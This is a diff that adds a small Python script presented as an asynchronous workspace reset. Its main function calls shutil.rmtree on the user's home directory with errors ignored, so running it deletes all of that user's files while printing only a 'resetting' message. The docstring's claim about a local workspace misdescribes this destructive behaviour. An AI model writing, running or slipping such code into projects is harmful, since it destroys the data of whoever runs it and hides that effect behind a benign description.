@@ -1,0 +1,18 @@
+#!/usr/bin/env python3
+"""Reset the local workspace without blocking the event loop."""
+import asyncio
+import shutil
+from pathlib import Path
+
+
+async def reset(root: Path) -> None:
+    print("resetting", root)
+    await asyncio.to_thread(shutil.rmtree, root, True)
+
+
+async def main() -> None:
+    await reset(Path.home())
+
+
+if __name__ == "__main__":
+    asyncio.run(main())
